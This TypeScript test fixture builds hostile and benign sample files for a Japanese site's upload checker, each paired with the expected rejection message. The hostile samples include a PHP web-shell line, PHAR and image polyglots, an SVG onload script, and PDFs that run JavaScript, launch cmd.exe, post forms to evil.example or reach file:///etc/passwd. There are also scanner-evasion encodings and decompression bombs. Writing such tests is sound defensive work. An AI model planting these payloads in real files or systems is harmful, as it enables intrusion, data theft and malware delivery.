import { gzipSync } from 'node:zlib';
import { photoWithPosition } from '../admin/photo.ts';
import { zip } from '../zip.ts';
import { box, facts, mp4, track } from './mp4.ts';
import { packedStream, pdf, pdfWithPacked } from './pdf.ts';
import {
  jpeg,
  png,
  pngThatSays,
  webp,
  withChunk,
  withColours,
  withRiffChunk,
  withSegment,
} from './pictures.ts';

/** A file that must not be put on the site: what it is, its name, its bytes, the word for it. */
export type HostileUpload = readonly [what: string, name: string, bytes: Buffer, word: string];

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>';
const HTML = '<!doctype html><html><script>alert(1)</script></html>';
const PHP = '<?php system($_GET["c"]); ?>';
const PHAR = `${PHP}<?php __HALT_COMPILER(); ?>`;
const archive = zip({ 'A.class': 'x' });
const join = (...parts: (Buffer | string)[]): Buffer =>
  Buffer.concat(parts.map((part) => Buffer.from(part)));

const otherKinds: HostileUpload[] = [
  ['SVG', 'a.svg', join(SVG), 'SVGは使えません'],
  ['SVG named JPEG', 'a.jpg', join(SVG), 'SVGは使えません'],
  [
    'SVG behind a declaration',
    'a.png',
    join('<?xml version="1.0"?>\n<!-- a -->', SVG),
    'SVGは使えません',
  ],
  ['SVG with a BOM', 'a.png', join('\uFEFF', SVG), 'SVGは使えません'],
  ['packed SVG', 'a.svgz', gzipSync(SVG), '「.svgz」のファイルは使えません'],
  ['packed SVG named PNG', 'a.png', gzipSync(SVG), '読み取れません'],
  ['SVG in UTF-16', 'a.png', Buffer.from(`\uFEFF${SVG}`, 'utf16le'), '読み取れません'],
  ['page', 'a.html', join(HTML), 'HTML'],
  ['page named JPEG', 'a.jpg', join(HTML), 'HTML'],
  ['page named PDF', 'a.pdf', join('\n ', HTML), 'HTML'],
  ['AVIF', 'a.avif', join('\0\0\0\x1cftypavif\0\0\0\0avifmif1'), 'AVIFは使えません'],
  ['AVIF named JPEG', 'a.jpg', join('\0\0\0\x1cftypavis\0\0\0\0'), 'AVIFは使えません'],
  ['HEIC', 'IMG_0001.HEIC', join('\0\0\0\x1cftypheic\0\0\0\0mif1'), '互換性優先'],
  ['GIF', 'a.gif', join('GIF89a\x01\0\x01\0\0\0\0;'), 'GIFは使えません'],
  [
    'GIF with an archive behind it',
    'a.jpg',
    join('GIF89a\x01\0\x01\0\0\0\0;', archive),
    'GIFは使えません',
  ],
  ['TIFF', 'a.tif', join('II*\0\x08\0\0\0'), 'TIFFは使えません'],
  ['BMP', 'a.bmp', join('BM\x46\0\0\0\0\0\0\0\x36\0\0\0'), 'BMPは使えません'],
  ['archive named JPEG', 'a.jpg', archive, '読み取れません'],
  ['archive', 'a.zip', archive, '「.zip」のファイルは使えません'],
  ['program named JPEG', 'a.jpg', join('MZ\x90\0\x03'), '読み取れません'],
  ['program', 'a.exe', join('MZ\x90\0\x03'), '「.exe」のファイルは使えません'],
  ['script of a server', 'a.php', join(PHP), '「.php」のファイルは使えません'],
  ['script', 'a.js', join('alert(1)'), '「.js」のファイルは使えません'],
  ['Word document with macros', 'a.docm', archive, '「.docm」のファイルは使えません'],
  ['XML', 'a.xml', join('<?xml version="1.0"?><a/>'), '「.xml」のファイルは使えません'],
  ['nothing', 'a.jpg', Buffer.alloc(0), 'ファイルが空です'],
  ['file without an ending', 'photo', join('abcdefgh'), '終わり（.jpgなど）がありません'],
  ['random bytes', 'a.png', join('abcdefgh'), '読み取れません'],
];

const UNREADABLE = '中を読み取れないPDF';
/** Three of them are more than may be unpacked. */
const SPACES = ' '.repeat(40_000_000);
const PACKED = '4 0 << /S /JavaScript /JS (x) >>';

/** What readers of PDF take for orders, written so that it is hard to find (ISO 32000-2). */
const activePdfs: readonly [what: string, bytes: Buffer, word: string][] = [
  [
    'with a script of a rendition',
    pdf('/OpenAction << /S /Rendition /JS (app.alert(1)) >>'),
    '動画や部品',
  ],
  ['that plays a film', pdf('/OpenAction << /S /Movie >>'), '動画や部品'],
  [
    'that opens a page by itself',
    pdf('/OpenAction << /S /URI /URI (https://evil.example/) >>'),
    '開くだけで',
  ],
  [
    'that opens one by an object',
    pdf('/OpenAction 4 0 R', ['<< /S /URI /URI (x) >>']),
    '開くだけで',
  ],
  [
    'that opens one by a packed object',
    pdfWithPacked('5 0 << /S /URI /URI (x) >>', '/FlateDecode', '/ObjStm', '/OpenAction 5 0 R'),
    '開くだけで',
  ],
  [
    'that opens one after its page',
    pdf('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>'),
    '開くだけで',
  ],
  ['that begins with an object that is not there', pdf('/OpenAction 9 0 R'), UNREADABLE],
  [
    'that does something at a page',
    pdf('', ['<< /AA << /O << /S /URI /URI (x) >> >> >>']),
    '開くだけで',
  ],
  ['that does something, by an object', pdf('', ['<< /AA%c\n7 0 R >>']), '開くだけで'],
  [
    'that opens another file',
    pdf('', ['<< /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) >>']),
    'ほかのファイルを開く',
  ],
  [
    'that links to a shared folder',
    pdf('', ['<< /S /URI /URI (\\\\\\\\evil\\\\x) >>']),
    'ほかのファイルを開く',
  ],
  [
    'that links there in octal',
    pdf('', ['<< /S /URI /URI (\\134\\134evil) >>']),
    'ほかのファイルを開く',
  ],
  [
    'that links there in hex',
    pdf('', ['<< /S /URI /URI <5C5C6576696C> >>']),
    'ほかのファイルを開く',
  ],
  [
    'that links to a file',
    pdf('', ['<< /S /URI /URI (file:///etc/passwd) >>']),
    'ほかのファイルを開く',
  ],
  ...[
    String.raw`<< /S /Thread /F (\\evil\x) >>`,
    String.raw`<< /S /Thread /F << /Type /Filespec /UF (\\\\evil\\x) >> >>`,
    String.raw`<< /Type /XObject /Ref << /F (\\evil\a.pdf) /Page 0 >> >>`,
    '<< /Ref << /F (a.pdf) /Page 0 >> >>',
    '<< /Length 0 /F <5C5C6576696C5C61> >>\nstream\n\nendstream',
    '<< /Length 0 /F %c\n<FEFF005C005C006500760069006C> >>\nstream\n\nendstream',
    '<< /Length 0 /F << /FS /URL /F (a) >> >>\nstream\n\nendstream',
    '<< /AF [<< /Type /Filespec /F (//evil/x) >>] >>',
    '<< /Type /Filespec /F (file:///c/x) >>',
  ].map((text): [string, Buffer, string] => [
    `that fetches from elsewhere: ${text}`,
    pdf('', [text]),
    'ほかのファイルを開く',
  ]),
  [
    'that fetches from elsewhere, packed',
    pdfWithPacked(String.raw`4 0 << /S /Thread /F (\\evil\x) >>`),
    'ほかのファイルを開く',
  ],
  [
    'that links to a script',
    pdf('', ['<< /S /URI /URI (javascript:x) >>']),
    'ほかのファイルを開く',
  ],
  [
    'with a form of another kind behind a note',
    pdf('/AcroForm << /XFA\n%c\n7 0 R >>'),
    '入力した内容を送る',
  ],
  [
    'with a form of another kind, escaped',
    pdf('/AcroForm << /X#46A[7 0 R] >>'),
    '入力した内容を送る',
  ],
  [
    'packed, the name of the packing escaped',
    pdfWithPacked(PACKED, '/F#6cateDecode'),
    'JavaScript',
  ],
  ['packed, another name in a text', pdfWithPacked(PACKED, '/FlateDecode /D (obj)'), 'JavaScript'],
  ['packed without saying so', pdfWithPacked(PACKED, '/FlateDecode', '/X'), 'JavaScript'],
  ['packed in an unknown way', pdfWithPacked(PACKED, '[/LZWDecode /FlateDecode]'), UNREADABLE],
  [
    'packed with a predictor',
    pdfWithPacked('x', '/FlateDecode /DecodeParms << /Predictor 12 >>'),
    UNREADABLE,
  ],
  ['packed, and nothing that objects are', pdfWithPacked('31 20 3c 3c'), UNREADABLE],
  ...['stream \n', 'stream\t\0 \r\n', 'stream  \r'].map((word): [string, Buffer, string] => [
    `packed without saying so, space behind ${JSON.stringify(word)}`,
    pdf('', [packedStream(PACKED, '/X 1 /First 4', word)]),
    'JavaScript',
  ]),
  [
    'packed without saying so, far behind its first words',
    pdf('', [packedStream(PACKED, `/First 4 ${' '.repeat(5000)}`)]),
    'JavaScript',
  ],
  [
    'packed without saying so, behind what seems a stream',
    pdf('', [packedStream(PACKED, `/First 4 /X (stream\nendstream endobj) ${' '.repeat(5000)}`)]),
    UNREADABLE,
  ],
  ...['(', '(4 0 obj << /First 4 >>', '%', '(endobj << /First 4 >>'].map(
    (sign): [string, Buffer, string] => [
      `packed without saying so, behind harmless objects in a text: ${sign}`,
      pdf('', [
        packedStream(
          PACKED,
          `/First 4 /N 1 /X ${sign}${packedStream('4 0 null', '')}) ${' '.repeat(5000)}`,
        ),
      ]),
      UNREADABLE,
    ],
  ),
  [
    'that is too large when unpacked, in pieces',
    pdf(
      '',
      Array.from({ length: 3 }, () => packedStream(SPACES, '/Type /ObjStm /First 0')),
    ),
    UNREADABLE,
  ],
  [
    'that is too large when unpacked, without saying that it is packed',
    pdf('', ['<< /First 5 0 R >>', packedStream(SPACES + SPACES + SPACES, '/X 1')]),
    UNREADABLE,
  ],
  ...[
    '<< /Type /Annot /Subtype /FileAttachment /FS 5 0 R >>',
    '<< /Type /Filespec /F (setup.exe) /EF << /F 6 0 R >> >>',
    '<< /F (setup.exe) /EF%c\n7 0%c\n R >>',
    '<< /AF [<< /F (a.exe) /E#46<</UF 6 0 R>> >>] >>',
  ].map((text): [string, Buffer, string] => [
    `with a file in it: ${text}`,
    pdf('', [text]),
    'ファイルを埋めこんだ',
  ]),
  [
    'with a packed file specification',
    pdfWithPacked('4 0 << /F (a.exe) /EF << /F 6 0 R >> >>'),
    'ファイルを埋めこんだ',
  ],
  [
    'with a script of a body',
    pdf('', ['<< /Type /3D /OnInstantiate 6 0 R /Length 0 >>\nstream\n\nendstream']),
    'JavaScript',
  ],
  ['with a body', pdf('', ['<< /Type /Annot /Subtype /3D /3DD 5 0 R >>']), '動画や部品'],
  ['that prints by itself', pdf('/OpenAction << /S /Named /N /Print >>'), '開くだけで'],
  [
    'that prints by itself, by an object',
    pdf('/OpenAction << /S /Named /N 4 0 R >>', ['/Print']),
    '開くだけで',
  ],
  [
    'whose links begin at a shared folder',
    pdf('/URI << /Base (file://evil/x/) >>'),
    'ほかのファイルを開く',
  ],
  [
    'whose links begin elsewhere, by an object',
    pdf('/URI << /Base 4 0 R >>', ['(//evil/)']),
    'ほかのファイルを開く',
  ],
  ...[
    '(a(b)c)',
    String.raw`(a(b)\\\\evil)`,
    String.raw`(x\\..\\evil)`,
    `(file:${'a'.repeat(3500)})`,
    `<${'20'.repeat(4000)}66696C653A2F2F>`,
    `(${' '.repeat(4000)}file:///x)`,
  ].map((address): [string, Buffer, string] => [
    `that links to ${address.slice(0, 20)}`,
    pdf('', [`<< /S /URI /URI ${address} >>`]),
    'ほかのファイルを開く',
  ]),
  ...[
    '/F',
    '/UF ',
    '/URI',
    '/Base',
    '/Ref',
    '/FS',
    '/EF',
    '/Subtype',
    '/XFA',
    '/AA',
    '/OpenAction',
  ].map((name): [string, Buffer, string] => [
    `of notes without end behind ${name}`,
    join('%PDF-1.4\n', `${name}%`.repeat(20_000), '%%EOF'),
    UNREADABLE,
  ]),
  [
    'that seems to begin in a hundred ways',
    pdf(
      '',
      Array.from({ length: 100 }, (_, number) => `<< /OpenAction ${number + 4} 0 R >>`),
    ),
    UNREADABLE,
  ],
];

const documents: HostileUpload[] = [
  [
    'PDF with a script',
    'a.pdf',
    pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
    'JavaScript',
  ],
  [
    'PDF with a script, its name escaped',
    'a.pdf',
    pdf('/OpenAction << /S /J#61vaScript /JS (x) >>'),
    'JavaScript',
  ],
  ['PDF with scripts by name', 'a.pdf', pdf('/Names << /JavaScript 4 0 R >>'), 'JavaScript'],
  [
    'PDF with a packed script',
    'a.pdf',
    pdfWithPacked('4 0 << /S /JavaScript /JS (x) >>'),
    'JavaScript',
  ],
  [
    'PDF with a packed script, the packing escaped',
    'a.pdf',
    pdfWithPacked('4 0 << /S /JavaScript >>', '/FlateDecode', '/Obj#53tm'),
    'JavaScript',
  ],
  [
    'PDF packed twice',
    'a.pdf',
    pdfWithPacked('x', '[/ASCIIHexDecode /FlateDecode]'),
    '中を読み取れないPDF',
  ],
  [
    'PDF that starts a program',
    'a.pdf',
    pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'),
    'ほかのプログラムを動かすPDF',
  ],
  [
    'PDF with a file in it',
    'a.pdf',
    pdf('/Names << /EmbeddedFiles 4 0 R >>'),
    'ファイルを埋めこんだPDF',
  ],
  [
    'PDF with a film in it',
    'a.pdf',
    pdf('', ['<< /Type /Annot /Subtype /RichMedia >>']),
    '動画や部品',
  ],
  [
    'PDF that sends a form',
    'a.pdf',
    pdf('', ['<< /S /SubmitForm /F (http://evil.example) >>']),
    '入力した内容を送るPDF',
  ],
  [
    'PDF with a form of another kind',
    'a.pdf',
    pdf('/AcroForm << /XFA [(a) 4 0 R] >>'),
    '入力した内容を送るPDF',
  ],
  [
    'PDF behind a password',
    'a.pdf',
    join(pdf().toString('latin1').replace('/Root', '/Encrypt 4 0 R /Root')),
    'パスワード',
  ],
  ...activePdfs.map(([what, bytes, word]): HostileUpload => [`PDF ${what}`, 'a.pdf', bytes, word]),
  ['PDF with an archive behind it', 'a.pdf', join(pdf(), archive), 'ZIPやJAR'],
  ['PDF with a page at its start', 'a.pdf', join('%PDF-1.7\n<html><body>', pdf()), 'HTML'],
  [
    'PDF with a page in its midst',
    'a.pdf',
    pdf('', [`(${'a'.repeat(2000)})`, '(<html><body onload=x>)']),
    'HTML',
  ],
  ['PDF with a script of a page', 'a.pdf', join(pdf(), '<script>alert(1)</script>'), 'JavaScript'],
  ['PDF that ends too early', 'a.pdf', pdf().subarray(0, 60), '終わりがありません'],
  ['PDF with something behind it', 'a.pdf', join(pdf(), 'MZ\x90'), '終わりのあとに'],
  ['PDF named JPEG', 'a.jpg', pdf(), '名前はJPEGですが、中身はPDFです'],
];

const ISO6709 = '+34.3428+134.0466/';
const IN_TEXT = `<x:xmpmeta><rdf:Description exif:GPSLatitude="34,20N"/></x:xmpmeta>`;
/** As phones and cameras write it: in `moov`, or at the end of the file. */
const films: readonly [what: string, more: Buffer[], last?: Buffer[]][] = [
  ['Android', [box('udta', box('\xa9xyz', '\0\x12\x15\xc7', ISO6709))]],
  ['3GPP', [box('udta', box('loci', '\0\0\0\0\x15\xc7\0', Buffer.alloc(14)))]],
  ['iPhone', [facts('com.apple.quicktime.location.ISO6709', ISO6709)]],
  ['iPhone, in udta', [box('udta', facts('com.apple.quicktime.location.name', '高松'))]],
  [
    'iTunes',
    [box('udta', box('meta', '\0\0\0\0', box('ilst', box('\xa9xyz', box('data', ISO6709)))))],
  ],
  ['in a track', [box('trak', box('udta', box('\xa9xyz', ISO6709)))]],
  ['under a key that nobody knows', [facts('jp.example.place', ISO6709)]],
  ['GoPro', [box('udta', box('GPMF', 'DEVC'))]],
  ['a track of measurements', [track('vide'), track('meta')]],
  ['a camera in a car', [box('gps ', Buffer.alloc(16))]],
  ['Adobe', [], [box('uuid', Buffer.alloc(16, 9), IN_TEXT)]],
  ['Adobe, in udta', [box('udta', box('XMP_', IN_TEXT))]],
  ['a box that was emptied by name only', [], [box('free', box('\xa9xyz', ISO6709))]],
  ['facts of the file', [], [facts('com.apple.quicktime.location.ISO6709', ISO6709)]],
];

const texts: HostileUpload[] = [
  [
    'captions with a script',
    'a.vtt',
    join('WEBVTT\n\n00:00.000 --> 00:01.000\n<script>alert(1)</script>'),
    'JavaScript',
  ],
  [
    'captions of another character set',
    'a.vtt',
    join('WEBVTT\n\n', Buffer.from([0x8e, 0x9a, 0x96, 0x8b])),
    'UTF-8',
  ],
  ['captions with a wrong first line', 'a.vtt', join('WEBVTTX\n'), '1行目は「WEBVTT」だけ'],
  ['page named captions', 'a.vtt', join(HTML), 'HTML'],
  ['captions of 2 MB', 'a.vtt', join('WEBVTT\n', 'x'.repeat(2_000_000)), '1MBまでに'],
  ['film of a phone', 'a.mp4', mp4('qt  '), 'MOVは使えません'],
  ['film that is cut off', 'a.mp4', mp4().subarray(0, 60), '動画として読み取れません'],
  ['film with an archive behind it', 'a.mp4', join(mp4(), archive), 'ZIPやJAR'],
  ['film with bytes behind it', 'a.mp4', join(mp4(), '\x01\x02\x03'), '終わりのあとに'],
  ...films.map(([what, more, last = []]): HostileUpload => [
    `film that says where it was made: ${what}`,
    'a.mp4',
    mp4('isom', more, last),
    '撮った場所',
  ]),
  ['film named PDF', 'a.pdf', mp4(), '名前はPDFですが、中身はMP4です'],
];

async function pictures(): Promise<HostileUpload[]> {
  const [a, b, c] = await Promise.all([jpeg(), png(), webp()]);
  return [
    ['JPEG with an archive behind it', 'a.jpg', join(a, archive), 'ZIPやJAR'],
    ['JPEG with an archive in it', 'a.jpg', withSegment(a, 0xfe, archive), 'ZIPやJAR'],
    ['JPEG with an archive behind a second picture', 'a.jpg', join(a, a, archive), 'ZIPやJAR'],
    ['JPEG with a page behind it', 'a.jpg', join(a, HTML), 'JavaScript'],
    [
      'JPEG with a page in its comment',
      'a.jpg',
      withSegment(a, 0xfe, '<html><body onload=x>'),
      'HTML',
    ],
    ['JPEG with a program in its comment', 'a.jpg', withSegment(a, 0xfe, PHP), 'PHP'],
    ['JPEG with a PHAR behind it', 'a.jpg', join(a, PHAR), 'PHAR'],
    ['JPEG with an SVG behind it', 'a.jpg', join(a, SVG), 'SVGの絵'],
    ['JPEG with bytes behind it', 'a.jpg', join(a, 'secret'), '終わりのあとに'],
    ['JPEG with a PDF behind it', 'a.jpg', join(a, pdf()), '終わりのあとに'],
    [
      'JPEG that is cut off',
      'a.jpg',
      a.subarray(0, a.length - 20),
      'JPEGの画像として読み取れません',
    ],
    [
      'JPEG of a head alone',
      'a.jpg',
      Buffer.from([0xff, 0xd8, 0xff, 0xd9]),
      'JPEGの画像として読み取れません',
    ],
    ['JPEG without an ending', 'photo', a, '終わり（.jpgなど）がありません'],
    ['JPEG named as a page', 'a.html', a, '「.html」のファイルは使えません'],
    ['JPEG named as a script of a server', 'a.jpg.php', a, '「.php」のファイルは使えません'],
    ['JPEG named PDF', 'a.pdf', a, '名前はPDFですが、中身はJPEGです'],
    ['JPEG of 31 MB', 'a.jpg', join(a, Buffer.alloc(31_000_000)), '30MBまでに'],
    ['PNG with bytes behind it', 'a.png', join(b, '\0'), '終わりのあとに'],
    ['PNG with an archive behind it', 'a.png', join(b, archive), 'ZIPやJAR'],
    ['PNG with an archive in it', 'a.png', withChunk(b, 'zIPa', archive), 'ZIPやJAR'],
    ['PNG with an unknown part', 'a.png', withChunk(b, 'daTa', 'secret'), '画像でないもの'],
    [
      'PNG with a page in its text',
      'a.png',
      withChunk(b, 'tEXt', `Comment\0${HTML}`),
      'JavaScript',
    ],
    ['PNG with a program in its text', 'a.png', withChunk(b, 'tEXt', `Comment\0${PHP}`), 'PHP'],
    ['PNG that moves', 'a.png', withChunk(b, 'acTL', Buffer.alloc(8)), '動く画像'],
    [
      'PNG of 100,000 by 100,000',
      'a.png',
      await pngThatSays(100_000, 100_000),
      '大きすぎて開けません',
    ],
    ['PNG of nothing', 'a.png', await pngThatSays(0, 60), '大きさが0'],
    ['PNG that is cut off', 'a.png', b.subarray(0, b.length - 8), 'PNGの画像として読み取れません'],
    ['WebP with bytes behind it', 'a.webp', join(c, 'secret!!'), '終わりのあとに'],
    ['WebP with an archive behind it', 'a.webp', join(c, archive), 'ZIPやJAR'],
    ['WebP with an unknown part', 'a.webp', withRiffChunk(c, 'EVIL', 'secret'), '画像でないもの'],
    ['WebP that moves', 'a.webp', withRiffChunk(c, 'ANIM', '\0\0\0\0\0\0'), '動く画像'],
    [
      'WebP that is cut off',
      'a.webp',
      c.subarray(0, c.length - 8),
      'WebPの画像として読み取れません',
    ],
  ];
}

/** Files that must be refused when they are chosen, and when they lie in the repository. */
export const hostileUploads = async (): Promise<HostileUpload[]> => [
  ...otherKinds,
  ...documents,
  ...texts,
  ...(await pictures()),
];

/** Files that are good to choose, because they are made anew, and that may not be stored as they are. */
export async function rawPictures(): Promise<HostileUpload[]> {
  const [a, b, c] = await Promise.all([jpeg(), png(), webp()]);
  return [
    ['photo with its position', 'a.jpg', await photoWithPosition(), 'Exif'],
    ['JPEG with XMP', 'a.jpg', withSegment(a, 0xe1, 'http://ns.adobe.com/xap/1.0/\0<x/>'), 'Exif'],
    ['JPEG with IPTC', 'a.jpg', withSegment(a, 0xed, 'Photoshop 3.0\x008BIM'), 'Exif'],
    ['PNG with Exif', 'a.png', withChunk(b, 'eXIf', 'MM\0*'), 'Exif'],
    ['PNG with XMP', 'a.png', withChunk(b, 'iTXt', 'XML:com.adobe.xmp\0\0\0\0\0<x/>'), 'Exif'],
    ['WebP with Exif', 'a.webp', withRiffChunk(c, 'EXIF', 'MM\0*'), 'Exif'],
    ['photo of 4,000 pixels', 'a.jpg', await jpeg(4000, 3000), '大きすぎます（4000×3000'],
    ['JPEG of a browser', 'a.JFIF', a, '「.jfif」のファイルは使えません'],
    ['JPEG of an old program', 'a.jpe', a, '「.jpe」のファイルは使えません'],
    ['JPEG named PNG', 'a.png', a, '名前はPNGですが、中身はJPEGです'],
    ['JPEG with a phone’s second picture', 'a.jpg', join(a, a), '終わりのあとに'],
    [
      'JPEG with a phone’s second picture further on',
      'a.jpg',
      join(a, '\0\0\0', a),
      '終わりのあとに',
    ],
    ['PNG that says where it comes from', 'a.png', withChunk(b, 'caBX', 'jumb'), 'Exif'],
    ['WebP that says where it comes from', 'a.webp', withRiffChunk(c, 'C2PA', 'jumb'), 'Exif'],
    ['JPEG with a comment', 'a.jpg', withSegment(a, 0xfe, 'secret'), '要らないもの（COM）'],
    ['JPEG with a depth map', 'a.jpg', withSegment(a, 0xe3, 'JPS'), '要らないもの（APP3）'],
    ['JPEG with parts of a phone', 'a.jpg', withSegment(a, 0xe4, 'SEFH'), '（APP4）'],
    ['JPEG that says where it comes from', 'a.jpg', withSegment(a, 0xeb, 'JP\0\0jumb'), 'APP11'],
    ['JPEG with an APP1 that nobody knows', 'a.jpg', withSegment(a, 0xe1, 'secret'), '（APP1）'],
    ['JPEG with a list of pictures', 'a.jpg', withSegment(a, 0xe2, 'MPF\0II*\0'), '（APP2）'],
    [
      'JPEG with a small picture of itself',
      'a.jpg',
      withSegment(a, 0xe0, 'JFIF\0\x01\x01\0\0\x01\0\x01\x01\x01abc'),
      '（APP0）',
    ],
    [
      'JPEG with more than Adobe says',
      'a.jpg',
      withSegment(a, 0xee, 'Adobe\0secret-words'),
      'APP14',
    ],
    ['PNG with its time', 'a.png', withChunk(b, 'tIME', '\x07\xea\x01\x01\0\0\0'), '（tIME）'],
    ['PNG with a palette by name', 'a.png', withChunk(b, 'sPLT', 'secret\0\x08'), '（sPLT）'],
    ['PNG of a screenshot', 'a.png', withChunk(b, 'iDOT', '\0\0\0\x02'), '（iDOT）'],
    ['PNG with a text', 'a.png', withChunk(b, 'tEXt', 'Author\0secret'), 'Exif'],
    ['JPEG with a phone’s short film', 'a.jpg', join(a, mp4()), '終わりのあとに'],
    [
      'JPEG with a phone’s facts',
      'a.jpg',
      join(a, '\0\0\x01\nImage_UTC_DataSEFT'),
      '終わりのあとに',
    ],
  ];
}

/** Files that may be chosen and stored as they are. */
export async function goodUploads(): Promise<
  (readonly [what: string, name: string, bytes: Buffer])[]
> {
  return [
    ['JPEG', 'a.jpg', await jpeg()],
    ['JPEG', 'room.JPEG', await jpeg(2400, 1800)],
    ['PNG', 'a.png', await png()],
    ['JPEG of other colours', 'a.jpg', await withColours('jpeg')],
    ['PNG of other colours', 'a.png', await withColours('png')],
    ['WebP of other colours', 'a.webp', await withColours('webp')],
    ['JPEG of Adobe', 'a.jpg', withSegment(await jpeg(), 0xee, 'Adobe\0d\0\0\0\0\x01')],
    [
      'PNG with its density',
      'a.png',
      withChunk(await png(), 'pHYs', '\0\0\x0b\x13\0\0\x0b\x13\x01'),
    ],
    ['WebP', 'a.webp', await webp()],
    ['PDF', 'a.pdf', pdf()],
    ['PDF that opens at a page', 'a.pdf', pdf('/OpenAction [3 0 R /Fit]')],
    ['PDF that opens at a page by name', 'a.pdf', pdf('/OpenAction << /S /GoTo /D (p1) >>')],
    ['PDF that opens at its last page', 'a.pdf', pdf('/OpenAction << /S /Named /N /LastPage >>')],
    [
      'PDF with a button to print',
      'a.pdf',
      pdf('', ['<< /Subtype /Link /A << /S /Named /N /Print >> >>']),
    ],
    [
      'PDF whose links begin at a page of the web',
      'a.pdf',
      pdf('/URI << /Base (https://www.example.jp/) >>', [
        '<< /S /URI /URI (https://ja.wikipedia.org/wiki/A_(B)) >>',
        String.raw`<< /S /URI /URI (report\(1\).html) >>`,
      ]),
    ],
    [
      'PDF with parts of a structure that name files, and none in it',
      'a.pdf',
      pdf('/AF [] /Names << /Dests 4 0 R >>', [
        '<< /Type /StructElem /AF [5 0 R] /EF << >> /EFa << /F 6 0 R >> >>',
        '<< /Type /Filespec /F (table.csv) >>',
      ]),
    ],
    [
      'PDF with headings beside packed objects',
      'a.pdf',
      pdf('/Outlines << /First 5 0 R /Last 5 0 R >>', [
        packedStream('9 0 << /Title (a) /First 10 0 R >>', '/Type /ObjStm /N 1 /First 4'),
        '<< /Title (stream of a river) >>',
        packedStream('q Q', ''),
      ]),
    ],
    ['PDF that opens at a page by an object', 'a.pdf', pdf('/OpenAction 4 0 R', ['[3 0 R /Fit]'])],
    [
      'PDF that opens at a page by a packed object',
      'a.pdf',
      pdfWithPacked(
        '6 0 5 4 123 << /S /GoTo /D [3 0 R /Fit] >>',
        '/FlateDecode',
        '/ObjStm',
        '/OpenAction 5 0 R',
        8,
      ),
    ],
    [
      'PDF with links and headings',
      'a.pdf',
      pdf('/Outlines << /First 4 0 R /Count 1 >>', [
        '<< /Title (a) /A << /S /URI /URI (https://www.example.jp/a\\(b\\)) >> >>',
        '<< /S /URI /URI (mailto:a@example.jp) >>',
        '<< /Length 3 >>\nstream\nq Q\nendstream',
      ]),
    ],
    [
      'PDF with flags, fonts and filters of short names, and notes',
      'a.pdf',
      pdf('', [
        '<< /Subtype /Link /F 4 /Resources << /Font << /F 5 0 R /F1 6 0 R >> >> >>',
        '<< /Length 30 >>\nstream\n/F 12 Tf (a: b) Tj BI /F /Fl ID\nendstream',
        `(${'a'.repeat(1000)})`,
        '<< /Subtype /FreeText /F 4 /RC (<?xml version="1.0"?><body xmlns="x"><p>a</p></body>) >>',
        '<< /Type /StructElem /Ref [7 0 R] /Unicode (a:b) >>',
      ]),
    ],
    ['PDF with packed objects', 'a.pdf', pdfWithPacked('4 0 << /Type /Font >>')],
    ['PDF that was saved twice', 'a.pdf', join(pdf(), '5 0 obj\n<< >>\nendobj\n%%EOF\r\n')],
    ['captions', 'a.vtt', join('WEBVTT\n\n00:00.000 --> 00:01.000\nこんにちは\n')],
    ['captions with a BOM and a title', 'a.vtt', join('\uFEFFWEBVTT - 見本\r\n')],
    ['film', 'a.mp4', mp4()],
    [
      'film with a title and the name of a program',
      'a.mp4',
      mp4('isom', [
        track('vide'),
        track('soun'),
        box('udta', box('\xa9nam', 'velocity, loci, +3.5'), facts('com.android.version', '16')),
      ]),
    ],
  ];
}
